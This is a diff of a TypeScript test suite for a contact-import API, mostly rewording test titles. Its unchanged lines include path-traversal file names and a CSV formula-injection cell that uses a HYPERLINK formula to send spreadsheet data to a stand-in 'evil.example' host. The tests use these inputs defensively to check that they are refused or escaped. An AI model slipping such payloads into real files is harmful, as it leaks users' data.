@@ -106,7 +106,7 @@ async function nameOf(unicity: string): Promise<string | null> {
 }
 
 suite('imports › definition', () => {
-  test('a name suffices, and the whole is shown', async () => {
+  test('requires only a name, and is returned whole', async () => {
     clock.set('2026-03-01T06:00:00Z')
     const { status, body } = await call('POST', '/imports', { body: { name: ' Daily ' } })
     assert.equal(status, 200)
@@ -132,13 +132,13 @@ suite('imports › definition', () => {
     )
   })
 
-  test('answers under the import media type when it is asked for', async () => {
+  test('is returned with the import media type when requested', async () => {
     const answer = await call('POST', '/imports', { body: { name: 'Typed' }, headers: { accept: IMPORT_TYPE } })
     assert.equal(answer.headers['content-type'], IMPORT_TYPE)
     assert.equal(answer.body.name, 'Typed')
   })
 
-  test('replaces the features as a whole and keeps what is not given', async () => {
+  test('replaces all features at once and keeps omitted members', async () => {
     const segment = await makeSegment()
     const id = await makeImport({
       features: [
@@ -158,7 +158,7 @@ suite('imports › definition', () => {
     assert.equal((await call('DELETE', `/segments/${segment}`)).status, 204)
   })
 
-  test('keeps the segment it fills from being deleted', async () => {
+  test('prevents deletion of the segment that it fills', async () => {
     const segment = await makeSegment()
     const id = await makeImport({ features: [{ type: 'segmentation', segmentId: segment }] })
     const refused = await call('DELETE', `/segments/${segment}`)
@@ -167,10 +167,10 @@ suite('imports › definition', () => {
   })
 
   const bad: [name: string, body: object, status: number, pointer?: string][] = [
-    ['no name', {}, 400, '/name'],
+    ['a missing name', {}, 400, '/name'],
     ['a feature twice', { name: 'x', features: [{ type: 'database' }, { type: 'database' }] }, 400, '/features/1/type'],
     [
-      'two rules for duplicates',
+      'two duplicate rules',
       { name: 'x', features: [{ type: 'duplicate', rules: { first: true, last: true } }] },
       400,
       '/features/0/rules',
@@ -183,18 +183,23 @@ suite('imports › definition', () => {
     ],
     ['an unknown binding', { name: 'x', binding: 999_999 }, 404],
     [
-      'a country that is none',
+      'an unknown country',
       { name: 'x', features: [{ type: 'normalization', fields: { 1: ['XXX'] } }] },
       400,
       '/features/0/fields/1/0',
     ],
     [
-      'a field that is no phone',
+      'a field that is not a phone number',
       { name: 'x', features: [{ type: 'normalization', fields: { 1: ['FRA'] } }] },
       400,
       '/features/0/fields/1',
     ],
-    ['a folder outside', { name: 'x', source: { type: 'ftp', folder: '../secret' } }, 400, '/source/folder'],
+    [
+      'a folder outside the drop place',
+      { name: 'x', source: { type: 'ftp', folder: '../secret' } },
+      400,
+      '/source/folder',
+    ],
     [
       'a file name that is a path',
       { name: 'x', source: { type: 'ftp', templateFilename: '../*' } },
@@ -215,7 +220,7 @@ suite('imports › definition', () => {
       '/features/0/fields/99999999999',
     ],
     [
-      'countries of no field',
+      'countries for an invalid field id',
       { name: 'x', features: [{ type: 'normalization', fields: { 'a/b': ['FRA'] } }] },
       400,
       '/features/0/fields/a~1b',
@@ -232,7 +237,7 @@ suite('imports › definition', () => {
     })
   }
 
-  test('refuses an unknown feature, and lists those that are known', async () => {
+  test('refuses an unknown feature and lists the known ones', async () => {
     const { status, body } = await call('POST', '/imports', { body: { name: 'x', features: [{ type: 'magic' }] } })
     assert.equal(status, 400)
     assert.equal(body.errors[0].pointer, '/features/0/type')
@@ -241,7 +246,7 @@ suite('imports › definition', () => {
     }
   })
 
-  test('brings its file along, as a text or as maps, when it is made and when it is changed', async () => {
+  test('accepts its file as text or flat maps, on creation and on change', async () => {
     const source = { type: 'file', filename: 'people.csv', data: 'Email;Name\nalong1@example.org;A\n' }
     const { body: made } = await call('POST', '/imports', { body: { name: 'Along', source } })
     assert.match(made.source.filename, /^[0-9A-F]{10}_people\.csv$/)
@@ -257,7 +262,7 @@ suite('imports › definition', () => {
     assert.deepEqual([await nameOf('along1@example.org'), await nameOf('along2@example.org')], ['A', 'B'])
   })
 
-  test('keeps the name of a file beside contacts as flat maps too', async () => {
+  test('keeps the file name given with flat maps', async () => {
     const source = { type: 'file', filename: 'members.csv', data: [{ Email: 'named@example.org' }] }
     const { body: made } = await call('POST', '/imports', { body: { name: 'Named', source } })
     assert.match(made.source.filename, /^[0-9A-F]{10}_members\.csv$/)
@@ -270,7 +275,7 @@ suite('imports › definition', () => {
     assert.equal(refused.status, 415)
   })
 
-  test('a scheduler that says nothing makes none, and leaves the one that is there', async () => {
+  test('an empty scheduler creates none and leaves the existing one', async () => {
     const id = await makeImport({ scheduler: { id: 79 } })
     assert.equal((await call('GET', `/imports/${id}`)).body.scheduler, undefined)
     const scheduler = { type: 'scheduled', startDate: '2030-01-01T00:00:00.000Z' }
@@ -284,7 +289,7 @@ suite('imports › definition', () => {
     assert.deepEqual([partial.status, partial.body.errors[0].pointer], [400, '/scheduler/type'])
   })
 
-  test('takes back what it answers', async () => {
+  test('accepts its own answer back', async () => {
     const features = [{ type: 'database' }, { type: 'duplicate', rules: { last: true } }]
     const id = await makeImport({ features, source: { type: 'ftp', folder: 'in', templateFilename: 'a*.csv' } })
     const { body } = await call('GET', `/imports/${id}`)
@@ -293,7 +298,7 @@ suite('imports › definition', () => {
     assert.deepEqual({ ...answer.body, updateDate: null }, body)
   })
 
-  test('names what it does not know when strict handling is preferred, also where a file could come', async () => {
+  test('reports unknown members under strict handling, even where a file is accepted', async () => {
     const id = await makeImport()
     const headers = { prefer: 'handling=strict' }
     for (const [method, url] of [
@@ -306,7 +311,7 @@ suite('imports › definition', () => {
     }
   })
 
-  test('a key that may only read can start, change and delete nothing', async () => {
+  test('a read-only key cannot start, change or delete anything', async () => {
     const id = await makeImport()
     const key = await makeKey(own.account, ['read'])
     const execution = await start(id, TWO)
@@ -327,7 +332,7 @@ suite('imports › definition', () => {
     await runImport(context, { execution })
   })
 
-  test('refuses a dynamic segment, and one of another account', async () => {
+  test('refuses a dynamic segment and a segment of another account', async () => {
     const feature = (segmentId: number) => ({ name: 'x', features: [{ type: 'segmentation', segmentId }] })
     const dynamic = await makeSegment(own.key, 'dynamic')
     assert.equal((await call('POST', '/imports', { body: feature(dynamic) })).status, 409)
@@ -362,7 +367,7 @@ suite('imports › definition', () => {
   })
 })
 
-suite('imports › forms of an execution', () => {
+suite('imports › start of an execution', () => {
   const multipart = (name: string, content: string) =>
     [
       '--XyZ',
@@ -392,9 +397,9 @@ suite('imports › forms of an execution', () => {
       'a form with any file',
       (csv) => ({ body: multipart('upload', csv), headers: { 'content-type': 'multipart/form-data; boundary="XyZ"' } }),
     ],
-    ['a form that says it is octets', (csv) => ({ body: multipart('data', csv), headers: octets })],
+    ['a form declared as octets', (csv) => ({ body: multipart('data', csv), headers: octets })],
     [
-      'octets that are a JSON object with the text',
+      'octets holding a JSON object with the text',
       (csv) => ({ body: JSON.stringify({ name: 'a b.csv', data: csv }), headers: octets }),
     ],
     [
@@ -404,10 +409,10 @@ suite('imports › forms of an execution', () => {
         headers: { 'content-type': 'application/json' },
       }),
     ],
-    ['octets that are a definition', (csv) => ({ body: JSON.stringify({ source: { data: csv } }), headers: octets })],
+    ['octets holding a definition', (csv) => ({ body: JSON.stringify({ source: { data: csv } }), headers: octets })],
   ]
   for (const [index, [name, form]] of forms.entries()) {
-    test(`case 20: reads ${name}`, async () => {
+    test(`accepts ${name}`, async () => {
       const id = await makeImport()
       const csv = `Email;Name\nann${index}@example.org;Ann\nbob${index}@example.org;Bob\n`
       const { body, headers } = form(csv)
@@ -429,7 +434,7 @@ suite('imports › forms of an execution', () => {
     })
   }
 
-  test('runs on the last file without a body, and stores the definition it is given first', async () => {
+  test('runs on the last file without a body, and stores a given definition first', async () => {
     const id = await makeImport()
     assert.equal((await call('POST', `/imports/${id}/executions`)).status, 409)
     const put = await call('PUT', `/imports/${id}/source`, { body: TWO, headers: CSV })
@@ -453,7 +458,7 @@ suite('imports › forms of an execution', () => {
     ])
   })
 
-  test('reads contacts given as flat maps, by field ids and names', async () => {
+  test('reads contacts given as flat maps, by field id or name', async () => {
     const id = await makeImport()
     const data = [{ Email: 'map1@example.org', [nameField.id]: 'A "quoted"; one' }, { email: 'map2@example.org' }]
     const { body, text, status } = await call('POST', `/imports/${id}/executions`, { body: { source: { data } } })
@@ -468,7 +473,7 @@ suite('imports › forms of an execution', () => {
     assert.equal(uploaded.body.errors[0].pointer, '/data/0/Nope')
   })
 
-  test('answers the last state unless the executions themselves are asked for by name', async () => {
+  test('returns the last state unless the list is requested by media type', async () => {
     const id = await makeImport()
     const url = `/imports/${id}/executions`
     const states = [undefined, '*/*', IMPORT_TYPE, 'text/html, */*;q=0.8', `${IMPORT_TYPE}, application/json`]
@@ -490,7 +495,7 @@ suite('imports › forms of an execution', () => {
     assert.equal((await call('GET', url, { key: other.key })).status, 404)
   })
 
-  test('shows what a run works with as the import did when it began', async () => {
+  test('shows the definition that the import had when the run began', async () => {
     const binds = [{ columnIndex: 0, fieldId: 1 }]
     const { body: format } = await call('POST', '/importFormats', { body: { name: 'Shown', separator: 59, binds } })
     const id = await makeImport({ binding: format.identifier.guid, features: [{ type: 'database' }] })
@@ -504,7 +509,7 @@ suite('imports › forms of an execution', () => {
     assert.deepEqual((await call('GET', `/imports/${id}/executions/${execution.id}`)).body, execution)
   })
 
-  test('answers after so many seconds if the run goes on', async () => {
+  test('answers after the preferred wait while the run continues', async () => {
     const id = await makeImport()
     const headers = { ...CSV, prefer: 'wait=1' }
     const { status, body } = await call('POST', `/imports/${id}/executions`, { body: TWO, headers })
@@ -545,7 +550,7 @@ suite('imports › Idempotency-Key of an upload', () => {
   const executions = async (id: number) =>
     (await call('GET', `/imports/${id}/executions`, { headers: LISTED })).body.length
 
-  test('the same bytes are answered again, and imported once', async () => {
+  test('repeated bytes replay the answer and are imported once', async () => {
     const id = await makeImport()
     const first = await keyed(id, 'same', TWO)
     await runImport(context, { execution: first.body.id })
@@ -555,7 +560,7 @@ suite('imports › Idempotency-Key of an upload', () => {
     assert.equal(await executions(id), 1)
   })
 
-  test('other bytes of equal length are refused, and so are others of another length and another import', async () => {
+  test('a reused key is refused for other bytes, another length or another import', async () => {
     const [id, elsewhere] = [await makeImport(), await makeImport()]
     const first = await keyed(id, 'reused', TWO)
     await runImport(context, { execution: first.body.id })
@@ -567,7 +572,7 @@ suite('imports › Idempotency-Key of an upload', () => {
     assert.equal((await keyed(id, 'reused', TWO)).headers['idempotent-replayed'], 'true')
   })
 
-  test('a form is compared to its end, whatever follows the file', async () => {
+  test('a form is compared to its end, including what follows the file', async () => {
     const id = await makeImport()
     const headers = { 'content-type': 'multipart/form-data; boundary=b' }
     const form = (note: string, end: string) =>
@@ -592,7 +597,7 @@ suite('imports › Idempotency-Key of an upload', () => {
     assert.deepEqual(problemOf(await keyed(id, 'definition', { source: { data: `${TWO}\n` } })), REUSED)
   })
 
-  test('what was refused unread is not kept, what was refused once read is', async () => {
+  test('a refusal before reading does not keep the key, a refusal after reading does', async () => {
     const id = await makeImport()
     const execution = await start(id, TWO)
     assert.deepEqual(problemOf(await keyed(id, 'early', TWO)), [409, 'urn:stentor:problem:import-running'])
@@ -612,7 +617,7 @@ suite('imports › files', () => {
     return call('PUT', `/imports/${await makeImport()}/source`, { body, headers })
   }
 
-  test('refuses an empty file, another extension, another type, and a broken archive', async () => {
+  test('refuses an empty file, an unknown extension or type, and a broken archive', async () => {
     const named = (name: string) => ({ ...CSV, 'content-disposition': `attachment; filename="${name}"` })
     assert.equal((await upload('')).status, 400)
     assert.equal((await upload(TWO, named('people.xlsx'))).status, 415)
@@ -627,12 +632,12 @@ suite('imports › files', () => {
     )
   })
 
-  test('never takes a name for a path', async () => {
+  test('never uses a file name as a path', async () => {
     const { body } = await upload(TWO, { ...CSV, 'content-disposition': 'attachment; filename="../../up.csv"' })
     assert.match(body.filename, /^[0-9A-F]{10}_up\.csv$/)
   })
 
-  test('refuses more than importMaxBytes, announced or not, and keeps the former source', async () => {
+  test('refuses a file over importMaxBytes, announced or not, and keeps the previous source', async () => {
     const { key } = await makeAccount('TINY001')
     await call('PUT', '/settings/contacts', { body: { importMaxBytes: 100 }, key })
     const id = await makeImport({}, key)
@@ -646,7 +651,7 @@ suite('imports › files', () => {
     assert.equal((await call('GET', `/imports/${id}`, { key })).body.source.filename, kept.body.filename)
   })
 
-  suite('over a connection', () => {
+  suite('uploads over a socket', () => {
     before(() => app.listen({ host: '127.0.0.1', port: 0 }))
 
     /** A request on its way, whose body is still to be written. */
@@ -666,7 +671,7 @@ suite('imports › files', () => {
       await eventually(async () => (await readdir(folder).catch(() => [])).length === files)
     }
 
-    test('answers 100 Continue to a client that asks before it sends', async () => {
+    test('answers 100 Continue to a client that waits for it', async () => {
       const id = await makeImport()
       const upload = put(id, { expect: '100-continue', 'content-length': TWO.length })
       upload.flushHeaders()
@@ -677,7 +682,7 @@ suite('imports › files', () => {
       answer.resume()
     })
 
-    test('refuses an upload that is announced as too large before any of it has come', async () => {
+    test('refuses an upload announced as too large before any of it arrives', async () => {
       const { key } = await makeAccount('EARL001')
       await call('PUT', '/settings/contacts', { body: { importMaxBytes: 100 }, key })
       const upload = put(await makeImport({}, key), { 'content-length': 101 }, key)
@@ -688,7 +693,7 @@ suite('imports › files', () => {
       upload.destroy()
     })
 
-    test('keeps the former file when a connection breaks amid an upload, and nothing of the new one', async () => {
+    test('keeps the previous file and no part of the new one when a connection breaks during an upload', async () => {
       const id = await makeImport()
       const kept = await call('PUT', `/imports/${id}/source`, { body: TWO, headers: CSV })
       const upload = put(id, { 'content-length': 1_000_000 })
@@ -707,7 +712,7 @@ suite('imports › files', () => {
       return upload
     }
 
-    test('an upload that broke off leaves its Idempotency-Key to the next', async () => {
+    test('an interrupted upload leaves its Idempotency-Key to the next one', async () => {
       const id = await makeImport()
       const upload = post(id, 'broken-off', { 'content-length': 200_000 })
       upload.write('Email\n'.padEnd(100_000, 'x'))
@@ -723,7 +728,7 @@ suite('imports › files', () => {
       await runImport(context, { execution: answer.body.id })
     })
 
-    test('a key is held as long as its upload lasts, and given with its answer afterwards', async () => {
+    test('a key is held while its upload lasts, and then replays its answer', async () => {
       const id = await makeImport()
       const upload = post(id, 'lasting')
       const wait = (bytes: number) => eventually(async () => (await partOf(id)).size >= bytes)
@@ -753,7 +758,7 @@ suite('imports › files', () => {
       ['an upload', 'PUT', 'source'],
       ['the file of a run', 'POST', 'executions'],
     ] as const) {
-      test(`${what} ends with 404 when its import is deleted meanwhile, and no file of either is left`, async () => {
+      test(`${what} ends with 404 when its import is deleted meanwhile, and leaves no file`, async () => {
         const id = await makeImport()
         assert.equal((await call('PUT', `/imports/${id}/source`, { body: TWO, headers: CSV })).status, 200)
         const upload = sending(method, `/imports/${id}/${path}`, { 'content-length': 200_000 }, own.key)
@@ -769,7 +774,7 @@ suite('imports › files', () => {
     }
   })
 
-  test('uploads and the deletion of their import may meet at any moment', async () => {
+  test('uploads concurrent with the deletion of their import end in 200 or 404 and leave no file', async () => {
     for (let round = 0; round < 20; round++) {
       const id = await makeImport()
       const put = () => call('PUT', `/imports/${id}/source`, { body: TWO, headers: CSV })
@@ -780,7 +785,7 @@ suite('imports › files', () => {
     }
   })
 
-  test('a new upload leaves the run under way to the file it began with', async () => {
+  test('a new upload does not change the file of the run in progress', async () => {
     const id = await makeImport()
     const execution = await start(id, 'Email\nbefore@example.org\n')
     const later = await call('PUT', `/imports/${id}/source`, { body: 'Email\nlater@example.org\n', headers: CSV })
@@ -790,7 +795,7 @@ suite('imports › files', () => {
     assert.equal((await call('GET', '/targets?unicity=later@example.org')).status, 404)
   })
 
-  test('reads a form that ends too soon as broken, and leaves nothing behind', async () => {
+  test('refuses a truncated form and leaves nothing behind', async () => {
     const id = await makeImport()
     const answer = await call('PUT', `/imports/${id}/source`, {
       body: '--b\r\nContent-Disposition: form-data; name="data"; filename="x.csv"\r\n\r\nEmail\nx@example.org',
@@ -837,7 +842,9 @@ suite('imports › files', () => {
     return found
   }
 
-  test('gives the same contacts from three encodings, separators and an archive', { skip: noSharedData }, async () => {
+  test('reads three encodings, three separators and an archive as the same contacts', {
+    skip: noSharedData,
+  }, async () => {
     const file = readFileSync(join(SHARED_DATA, 'contacts-300-windows-1252.csv'))
     const text = new TextDecoder('windows-1252').decode(file)
     assert.ok(!text.includes(','))
@@ -848,7 +855,7 @@ suite('imports › files', () => {
     assert.deepEqual(await imported('ENCO003', gzipSync(text.replaceAll(';', ','))), plain)
   })
 
-  test('reads the samples in other encodings as the same people as in the large one', {
+  test('reads the samples in other encodings as the same people as in the large sample', {
     skip: noSharedData,
   }, async () => {
     const all = await imported('ENCO004', readFileSync(join(SHARED_DATA, 'contacts-10k.csv')))
@@ -862,7 +869,7 @@ suite('imports › files', () => {
 })
 
 suite('imports › lines', () => {
-  test('makes of the messy file exactly what is expected', async () => {
+  test('imports the messy file exactly as expected', async () => {
     const { key, fields } = await sampleAccount('MESS001')
     const id = await makeImport({}, key)
     const execution = await run(id, readFileSync(join(IMPORT_FILES, 'contacts-messy.csv')), key)
@@ -899,7 +906,7 @@ suite('imports › lines', () => {
     assert.equal(await value('ünïcode@xn--huser-gra.example', 'Mobile'), '+33612345620')
   })
 
-  test('ends in state 2 without a column for the unicity, and writes nothing', async () => {
+  test('ends in state 2 without a unicity column and writes nothing', async () => {
     const id = await makeImport()
     const execution = await run(id, 'Name;Other\nNobody;x\n')
     assert.equal(execution.state, 2)
@@ -909,14 +916,14 @@ suite('imports › lines', () => {
     assert.equal(binary.error.type, 'unicity-not-bound')
   })
 
-  test('warns of columns that name no field', async () => {
+  test('warns about columns that name no field', async () => {
     const execution = await run(await makeImport(), 'Email;Shoe size\nwarned@example.org;44\n')
     assert.equal(execution.state, 1)
     assert.equal(execution.warnings.length, 1)
     assert.match(execution.warnings[0], /"Shoe size"/)
   })
 
-  test('escapes formulas in the file of rejects, in names of columns and in cells', async () => {
+  test('escapes formulas in the rejects file, in column names and in cells', async () => {
     const { body: field } = await call('POST', '/fields', { body: { type: 'numeric', name: '=Sum' } })
     const id = await makeImport()
     const cell = '"=HYPERLINK(""https://evil.example/?""&A1;""look"")"'
@@ -935,7 +942,7 @@ suite('imports › lines', () => {
     )
   })
 
-  test('lists every fault of a line, in a file that is a CSV itself', async () => {
+  test('lists every fault of a line in a valid CSV file', async () => {
     const { body: field } = await call('POST', '/fields', { body: { type: 'numeric', name: 'Size;"big"' } })
     const id = await makeImport()
     const execution = await run(id, `Email;${field.id}\nno address;"a;b"\n`)
@@ -955,7 +962,7 @@ suite('imports › lines', () => {
     ['last', 'C', 2],
   ] as const) {
     for (const known of [false, true]) {
-      test(`case 21: of three lines with one key "${rule}" keeps ${kept}, of a ${known ? 'known' : 'new'} contact`, async () => {
+      test(`of three lines with the same key, "${rule}" keeps ${kept} for a ${known ? 'known' : 'new'} contact`, async () => {
         const { key } = await makeAccount(`DUP${rule.slice(0, 1).toUpperCase()}00${Number(known)}`)
         const { body: field } = await call('POST', '/fields', { body: { type: 'textField', name: 'Name' }, key })
         if (known) await call('POST', '/targets', { body: { Email: 'same@example.org' }, key })
@@ -978,7 +985,7 @@ suite('imports › lines', () => {
     }
   }
 
-  test('case 22: obeys updateExisting and crushData, and lets known contacts join the segment', async () => {
+  test('applies updateExisting and crushData, and adds known contacts to the segment', async () => {
     const segment = await makeSegment()
     const features = (database: object) => [
       { type: 'segmentation', segmentId: segment },
@@ -1006,7 +1013,7 @@ suite('imports › lines', () => {
     assert.ok((await contact('spelled@example.org')).fields[1] === 'Spelled@example.org')
   })
 
-  test('puts the contacts on the red lists', async () => {
+  test('adds the contacts to the red lists', async () => {
     const id = await makeImport({ features: [{ type: 'redList', destination: { mail: true, sms: true } }] })
     await run(id, 'Email\nlisted@example.org\nno address\n')
     const { redList } = await contact('listed@example.org')
@@ -1016,7 +1023,7 @@ suite('imports › lines', () => {
     assert.deepEqual(body.at(-1).detail, { importId: id })
   })
 
-  test('clears the bounce flag of an address that changes', async () => {
+  test('clears the bounce flag of a changed address', async () => {
     const { body: phone } = await call('POST', '/fields', { body: { type: 'phone', name: 'Phone' } })
     const id = await makeImport()
     await run(id, 'Email;Phone\nflagged@example.org;0612345678\n')
@@ -1030,7 +1037,7 @@ suite('imports › lines', () => {
 })
 
 suite('imports › formats', () => {
-  test('reads the columns a format binds, past the lines it passes over', async () => {
+  test('reads the columns that a format binds and skips the lines before its start', async () => {
     const { body: format, text } = await call('POST', '/importFormats', {
       body: {
         name: 'Pipes',
@@ -1065,7 +1072,7 @@ suite('imports › formats', () => {
     assert.equal(execution.error.type, 'unicity-not-bound')
   })
 
-  test('refuses a column or field twice, unknown fields and names that are taken', async () => {
+  test('refuses duplicate columns or fields, unknown fields and taken names', async () => {
     const post = (binds: object[], name = 'Wrong') => call('POST', '/importFormats', { body: { name, binds } })
     const once = { columnIndex: 0, fieldId: 1 }
     assert.equal((await post([once, { columnIndex: 0, fieldId: nameField.id }])).status, 400)
@@ -1075,7 +1082,7 @@ suite('imports › formats', () => {
     assert.equal((await post([once], 'tAKEN')).status, 409)
   })
 
-  test('lists the saved ones only, and shows the others by id', async () => {
+  test('lists only saved formats and shows the others by id', async () => {
     const { body } = await call('POST', '/importFormats', {
       body: { name: 'Once', binds: [{ columnIndex: 0, fieldId: 1 }], savedImportFormat: false },
     })
@@ -1090,7 +1097,7 @@ suite('imports › runs', () => {
   const many = (count: number, from = 0) =>
     `Email;Name\n${Array.from({ length: count }, (_, n) => `many${from + n}@example.org;x\n`).join('')}`
 
-  test('case 25: runs one at a time an import, and a second start changes nothing', async () => {
+  test('allows one run at a time per import, and a refused second start changes nothing', async () => {
     const id = await makeImport()
     const execution = await start(id, TWO)
     const source = (await call('GET', `/imports/${id}`)).body.source
@@ -1103,7 +1110,7 @@ suite('imports › runs', () => {
     assert.equal((await call('DELETE', `/imports/${id}`)).status, 204)
   })
 
-  test('an import is deleted when its run ends in time, and refused with 409 when it does not', async () => {
+  test("a deletion succeeds if the import's run ends in time, and is refused with 409 otherwise", async () => {
     const [ending, waiting] = [await makeImport(), await makeImport()]
     const execution = await start(ending, TWO)
     const other = await start(waiting, TWO)
@@ -1119,7 +1126,7 @@ suite('imports › runs', () => {
     assert.equal((await call('GET', `/imports/${waiting}/executions/${other}`)).body.state, 1)
   })
 
-  test('goes on where it was stopped, and counts nothing twice', async () => {
+  test('a stopped run resumes and counts nothing twice', async () => {
     const { key } = await makeAccount('STOP001')
     await call('POST', '/fields', { body: { type: 'textField', name: 'Name' }, key })
     const segment = await makeSegment(key)
@@ -1172,7 +1179,7 @@ suite('imports › runs', () => {
     return spawn(process.execPath, [main, 'start', '--role', 'jobs'], { env, stdio: 'ignore' })
   }
 
-  test('goes on by itself after its process was killed, to the same end as if nothing had been', async (t) => {
+  test('a run resumes by itself after its process is killed, with the same result', async (t) => {
     const { key } = await makeAccount('KILL001')
     await call('POST', '/fields', { body: { type: 'textField', name: 'Name' }, key })
     const id = await makeImport({}, key)
@@ -1198,7 +1205,7 @@ suite('imports › runs', () => {
     assert.equal((await call('GET', '/targets/count', { key })).body.targetsCount, lines)
   })
 
-  test('two processes at one execution do its work once', async () => {
+  test('two concurrent processes do the work of an execution once', async () => {
     const { key } = await makeAccount('TWIN001')
     const id = await makeImport({}, key)
     const execution = await start(id, many(6000), key)
@@ -1207,7 +1214,7 @@ suite('imports › runs', () => {
     assert.deepEqual(counts(body), { ...NONE, created: 6000 })
   })
 
-  test('a cancelled run ends in state 2 and keeps the batches before', async () => {
+  test('a cancelled run ends in state 2 and keeps its committed batches', async () => {
     const id = await makeImport()
     const execution = await start(id, many(20))
     const url = `/imports/${id}/executions/${execution}`
@@ -1221,7 +1228,7 @@ suite('imports › runs', () => {
     assert.equal((await run(id, TWO)).state, 1)
   })
 
-  test('runs two imports of an account at a time, and the others wait for their turn', async () => {
+  test('runs two imports of an account at a time, and the others wait', async () => {
     const { account, key } = await makeAccount('TURN001')
     const locks = await Promise.all([1, 2].map((n) => lockRun(context.pool, { id: -n, account, cancelled: false })))
     assert.ok(locks.every((lock) => lock !== undefined))
@@ -1239,7 +1246,7 @@ suite('imports › runs', () => {
     assert.equal(await state(waiting), 1)
   })
 
-  test('case 25: swaps the members of a segment at the end, and leaves them alone when the run fails', async () => {
+  test('replaces the members of a segment at the end, and keeps them when the run fails', async () => {
     const { key } = await makeAccount('SWAP001')
     await call('POST', '/fields', { body: { type: 'textField', name: 'Name' }, key })
     const segment = await makeSegment(key)
@@ -1260,7 +1267,7 @@ suite('imports › runs', () => {
     assert.equal((await call('GET', `/segments/${segment}`, { key })).body.targetsCount, 4)
   })
 
-  test('reads the lines again by the fields as they are, when these change under a run', async () => {
+  test('reads the lines with the current fields when these change during a run', async () => {
     const { key } = await makeAccount('CHNG001')
     const { body: field } = await call('POST', '/fields', { body: { type: 'textField', name: 'Name' }, key })
     const id = await makeImport({}, key)
@@ -1280,8 +1287,8 @@ suite('imports › runs', () => {
   })
 })
 
-suite("imports › another account's", () => {
-  test('are as if they never existed', async () => {
+suite("imports › another account's imports", () => {
+  test('are unknown to every operation', async () => {
     const id = await makeImport({}, other.key)
     const execution = await start(id, TWO, other.key)
     const { body: format } = await call('POST', '/importFormats', {
